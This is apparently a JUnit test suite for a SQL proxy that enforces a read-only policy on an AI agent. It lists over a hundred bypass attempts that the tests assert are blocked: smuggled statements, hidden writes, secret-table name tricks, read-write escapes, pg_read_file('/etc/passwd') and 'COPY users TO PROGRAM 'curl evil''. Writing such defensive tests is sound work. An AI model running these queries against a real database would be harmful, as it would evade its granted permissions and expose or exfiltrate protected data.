package io.dbwarden.proxy.policy;

import io.dbwarden.api.validation.PolicyLoader;
import io.dbwarden.proxy.filter.Decision;
import io.dbwarden.proxy.filter.StatementInfo;
import io.dbwarden.proxy.filter.Verdict;
import io.dbwarden.proxy.sql.SqlText;
import io.dbwarden.proxy.sql.StatementAnalyzer;
import io.dbwarden.proxy.testing.SqlSqueeze;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attempts to get a write, a secret table, a dangerous function or a read-write session past a read-only agent
 * policy. Each query string is split and decided exactly as the proxy does; the most restrictive statement
 * decision is the query's outcome. Positive controls show the policy is not simply denying everything.
 */
class BypassCorpusTest {
    static PolicyEngine engine;
    static StatementAnalyzer analyzer;

    @BeforeAll
    static void load() throws Exception {
        engine = PolicyEngine.of(PolicyLoader.load(Path.of("src/test/resources/policies/corpus-agent.yaml")),
                "agents/copilot");
        analyzer = new StatementAnalyzer(10_000, 1 << 20, 5_000, 1);
    }

    @AfterAll
    static void close() {
        analyzer.close();
    }

    /** The query's outcome: ALLOW when the proxy forwards every statement, else the refusing decision. */
    static Decision outcome(String sql) {
        Verdict v = QueryDecisions.decide(engine, analyzer, sql);
        return v.forwards() ? Decision.ALLOW : v.decision();
    }

    static Stream<Arguments> bypassAttempts() {
        List<String> attempts = new ArrayList<>(List.of(
                // plain writes, case, comments, whitespace
                "DELETE FROM users",
                "delete from users",
                "DeLeTe FrOm users",
                "/* hi */ DELETE FROM users",
                "-- leading comment\nDELETE FROM users",
                "   \n\t DELETE\nFROM\tusers",
                "/* /* nested */ still a comment */ DELETE FROM users",
                "INSERT INTO users VALUES (1)",
                "UPDATE users SET a = 1",
                "MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN DELETE",
                // multi-statement smuggling
                "SELECT 1; DELETE FROM users",
                "SELECT 1;DELETE FROM users",
                "SELECT 1 /* ; */; DROP TABLE users",
                "SELECT ';' ; DROP TABLE users",
                "SELECT $$;$$; DROP TABLE users",
                "SELECT $a$ $b$ $a$; DELETE FROM users",
                "SELECT E'\\\\'; DELETE FROM users; --'",
                "SELECT * FROM users WHERE 1=1; DELETE FROM users WHERE 1=1",
                "BEGIN; DELETE FROM users; COMMIT",
                // a statement after a routine body, behind labels that look like the body's END or a CASE
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 case; END; DELETE FROM users",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 end; END; DELETE FROM users",
                "SELECT begin atomic FROM users; DELETE FROM users",
                // writes hidden in CTEs, EXPLAIN ANALYZE, PREPARE, DO, functions
                "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
                "WITH x AS (SELECT 1), d AS (UPDATE users SET a = 1 RETURNING *) SELECT * FROM d",
                "WITH RECURSIVE r AS (SELECT 1) INSERT INTO users SELECT * FROM r",
                "WITH d AS MATERIALIZED (DELETE FROM users RETURNING id) SELECT count(*) FROM d",
                "EXPLAIN ANALYZE DELETE FROM users",
                "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
                "PREPARE p AS DELETE FROM users",
                "PREPARE p(int) AS UPDATE users SET a = $1",
                "EXECUTE p",
                "DO $$BEGIN DELETE FROM users; END$$",
                "DO 'BEGIN DELETE FROM users; END'",
                "DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$",
                "CALL cleanup_users()",
                "CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql",
                "SELECT * INTO stolen FROM users",
                "CREATE TABLE copy_of_users AS SELECT * FROM users",
                // DDL and admin
                "DROP TABLE IF EXISTS users CASCADE",
                "TRUNCATE users",
                "TRUNCATE TABLE ONLY users",
                "ALTER TABLE users DROP COLUMN email",
                "GRANT ALL ON users TO PUBLIC",
                "VACUUM FULL users",
                "LOAD 'evil.so'",
                "LISTEN anything",
                // secret tables: quoting, case, spacing, unicode escapes, subqueries, joins
                "SELECT * FROM secret.keys",
                "SELECT * FROM \"secret\".\"keys\"",
                "SELECT * FROM SECRET.KEYS",
                "SELECT * FROM secret . keys",
                "SELECT * FROM U&\"secr\\0065t\".keys",
                "SELECT * FROM U&\"secr!0065t\" UESCAPE '!'.keys",
                "SELECT * FROM secret.U&\"k#0065ys\" UESCAPE '#'",
                "SELECT * FROM public.users u JOIN secret.keys k ON true",
                "SELECT (SELECT max(v) FROM secret.keys)",
                "SELECT * FROM public.users WHERE id IN (SELECT id FROM secret.keys)",
                "SELECT * FROM public.users, secret.keys",
                "SELECT * FROM ONLY secret.keys",
                "SELECT * FROM LATERAL (SELECT * FROM secret.keys) x",
                "TABLE secret.keys",
                "VALUES ((SELECT max(v) FROM secret.keys))",
                "SELECT * FROM pg_catalog.pg_authid",
                "SELECT * FROM public.users WHERE id OPERATOR(pg_catalog.=) (SELECT max(v) FROM secret.keys)",
                "SELECT * FROM secret.keys WHERE 1 OPERATOR(=) 1",
                // subqueries a SQL parser reads without error but leaves out of its table list
                "SELECT * FROM public.users WHERE id = ALL (ARRAY(TABLE secret.keys))",
                "SELECT * FROM (TABLE secret.keys) k",
                "SELECT position('a' IN (SELECT v FROM secret.keys))",
                "SELECT overlay('x' placing 'y' from (SELECT 1 FROM secret.keys))",
                "SELECT substring((SELECT v FROM secret.keys) FROM 2)",
                "SELECT * FROM XMLTABLE('/x' PASSING (SELECT v FROM secret.keys) COLUMNS a int)",
                // a WITH query named like a table where the table is still read (outside its scope, before it, as
                // the target of a write)
                "SELECT * FROM payroll, (WITH payroll AS (SELECT 1) SELECT * FROM payroll) s",
                "SELECT (WITH payroll AS (SELECT 1) SELECT * FROM payroll), * FROM payroll",
                "WITH a AS (SELECT * FROM payroll), payroll AS (SELECT 1) SELECT * FROM a, payroll",
                "WITH a AS (WITH payroll AS (SELECT 1) SELECT * FROM payroll) SELECT * FROM a, payroll",
                "WITH payroll AS (SELECT 1) DELETE FROM payroll",
                "WITH payroll AS (SELECT 1) SELECT * FROM public.payroll",
                // names the server folds (ASCII letters only) or cuts (to 63 bytes) into a denied table's name
                "SELECT * FROM ÉMAILS",
                "SELECT * FROM public.ÉMAILS e JOIN users u ON u.id = e.id",
                "SELECT * FROM \"Émails\"",
                "SELECT * FROM contact_details_of_customers_who_asked_not_to_be_contacted_at_all",
                "SELECT * FROM PUBLIC.CONTACT_DETAILS_OF_CUSTOMERS_WHO_ASKED_NOT_TO_BE_CONTACTED_AT_ALL_TIMES",
                // search_path games
                "SET search_path = secret",
                "SET search_path TO secret, public; SELECT * FROM keys",
                "SELECT set_config('search_path', 'secret', false)",
                "RESET ALL",
                // dangerous and dynamic-SQL functions
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT pg_catalog.pg_read_file('/etc/passwd')",
                "SELECT \"pg_read_file\"('/etc/passwd')",
                "SELECT PG_READ_FILE('/etc/passwd')",
                "SELECT lo_export(1, '/tmp/x')",
                "SELECT pg_terminate_backend(123)",
                "SELECT * FROM dblink('host=x', 'DELETE FROM users') AS t(a int)",
                "SELECT query_to_xml('SELECT * FROM secret.keys', true, true, '')",
                "SELECT table_to_xml('secret.keys', true, true, '')",
                // COPY
                "COPY users TO PROGRAM 'curl evil'",
                "COPY (SELECT * FROM secret.keys) TO STDOUT",
                "COPY users FROM STDIN",
                // escaping the read-only session
                "BEGIN READ WRITE",
                "START TRANSACTION READ WRITE",
                "SET TRANSACTION READ WRITE",
                "SET default_transaction_read_only = off",
                "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
                // locks that stall writers for as long as the session stays
                "SELECT pg_advisory_lock(42)",
                "SELECT pg_try_advisory_lock(1, 2)",
                "SELECT pg_catalog.pg_advisory_lock_shared(7)",
                "SELECT pg_advisory_xact_lock(1) FROM users",
                "SELECT \"pg_try_advisory_xact_lock_shared\"(3)",
                // not SQL at all
                "FROBNICATE users",
                "$$ DELETE FROM users $$"
        ));
        // a statement too long to analyse is denied, not waved through
        attempts.add("SELECT * FROM users WHERE id IN (" + "1, ".repeat(400_000) + "1)");
        return attempts.stream().map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("bypassAttempts")
    void blocked(String sql) {
        assertThat(outcome(sql)).as(sql.length() > 200 ? sql.substring(0, 200) : sql).isNotEqualTo(Decision.ALLOW);
    }

    /** The same attempts without whitespace the server does not need (DO'...', AS(SELECT ...), INTO"t"FROM). */
    @ParameterizedTest
    @MethodSource("bypassAttempts")
    void blockedWithoutSpaces(String sql) {
        String squeezed = SqlSqueeze.squeeze(sql);
        assertThat(outcome(squeezed)).as(squeezed.length() > 200 ? squeezed.substring(0, 200) : squeezed)
                .isNotEqualTo(Decision.ALLOW);
    }

    @Test
    void corpusIsLargeEnough() {
        assertThat(bypassAttempts().count()).isGreaterThanOrEqualTo(60);
    }

    static Stream<Arguments> legitimate() {
        return Stream.of(
                "SELECT * FROM users",
                "select id from public.users where email = 'x;DROP TABLE y'",
                "SELECT E'\\'; DELETE FROM users; --'",
                "/* /* */ DELETE FROM users */ SELECT 1",
                "BEGIN", "COMMIT", "ROLLBACK", "START TRANSACTION READ ONLY",
                "SHOW search_path",
                "SELECT pg_advisory_unlock_all()",
                "SELECT u.id, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.id",
                "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '1 day') SELECT * FROM recent",
                "SELECT * FROM users WHERE id = $1",
                "SELECT * FROM émails", // another table: the server does not fold É to é
                "WITH payroll AS (SELECT 1 AS a) SELECT * FROM payroll",
                "WITH RECURSIVE a AS (SELECT * FROM payroll), payroll AS (SELECT 1) SELECT * FROM a",
                "SELECT * FROM (TABLE users) u",
                "SELECT * FROM users WHERE name OPERATOR(pg_catalog.~) '^a' COLLATE pg_catalog.default",
                "SELECT 1" + " ".repeat(100_000) + " FROM users"
        ).map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("legitimate")
    void allowed(String sql) {
        assertThat(outcome(sql)).as(sql.length() > 200 ? sql.substring(0, 200) : sql).isEqualTo(Decision.ALLOW);
        String squeezed = SqlSqueeze.squeeze(sql);
        assertThat(outcome(squeezed)).as(squeezed.length() > 200 ? squeezed.substring(0, 200) : squeezed)
                .isEqualTo(Decision.ALLOW);
    }

    @Test
    void aDenyRuleThatMatchesOnlyBecauseTablesAreUnknownSaysSo() {
        Verdict unknown = engine.decide(analyzer.analyzeNow(StatementInfo.of(SqlText.split("FETCH 10 FROM c", true)
                .get(0))));
        assertThat(unknown.decision()).isEqualTo(Decision.DENY);
        assertThat(unknown.error().message()).contains("no-secrets").contains("tables it might use")
                .doesNotContain("secret tables are off limits");
        assertThat(unknown.error().detail()).contains("could not list every table");
        Verdict named = engine.decide(analyzer.analyzeNow(StatementInfo.of(SqlText.split("SELECT * FROM secret.keys",
                true).get(0))));
        assertThat(named.error().message()).contains("secret tables are off limits");
    }
}
